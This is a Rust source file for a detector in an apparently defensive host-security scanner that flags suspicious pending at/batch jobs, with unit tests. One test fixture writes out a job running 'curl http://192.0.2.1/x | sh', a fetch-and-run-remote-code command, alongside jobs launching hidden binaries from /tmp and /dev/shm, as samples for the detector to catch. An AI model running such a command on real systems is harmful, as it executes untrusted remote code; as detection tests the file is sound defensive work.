//! Detector: a waiting job of at that runs something odd.

use crate::weigh;
use crate::{Card, Detector, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "at-job",
        doc: "A waiting job of at or batch does what ordinary jobs do not.",
        mechanisms: &[47],
        attack: &["T1053.002"],
        why: "It waits for its time and then runs by itself, with the rights of whoever asked for it.",
        innocent: "you asked for it and remember it",
        next: "read the job; keep it as evidence before removing it",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<crate::Draft>) {
    weigh::scheduled_jobs(tables, &["at"], drafts);
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn job(uid: u32, directory: &str, command: &str) -> String {
        format!(
            "#!/bin/sh\n# atrun uid={uid} gid=0\n# mail root 0\numask 22\nPATH=/usr/bin:/bin; export PATH\ncd {directory} || {{\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}}\n{command}\n"
        )
    }

    #[test]
    fn odd_jobs_are_found_in_every_spool() {
        for (path, text) in [
            ("/var/spool/cron/atjobs/a0000101c3f2a8", job(0, "/root", "/tmp/.x/y")),
            ("/var/spool/at/a00001", job(1000, "/dev/shm", "./run")),
            (
                "/var/spool/atjobs/b1",
                job(
                    0,
                    "/",
                    "${SHELL:-/bin/sh} << 'marcinDELIMITER01'\ncurl http://192.0.2.1/x | sh\n\nmarcinDELIMITER01",
                ),
            ),
        ] {
            let seen = check(Mem::new().file(path, text));
            assert_eq!(seen.alarms("at-job").len(), 1, "{path}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn ordinary_jobs_are_no_alarm() {
        let seen = check(
            Mem::new()
                .file("/var/spool/cron/atjobs/.SEQ", "0000a\n")
                .file("/var/spool/cron/atjobs/a1", job(0, "/tmp", "systemctl restart nginx"))
                .file("/var/spool/at/a2", job(1000, "/home/me", "/home/me/bin/report --mail")),
        );
        assert!(seen.by("at-job").is_empty(), "{:#?}", seen.findings);
    }
}
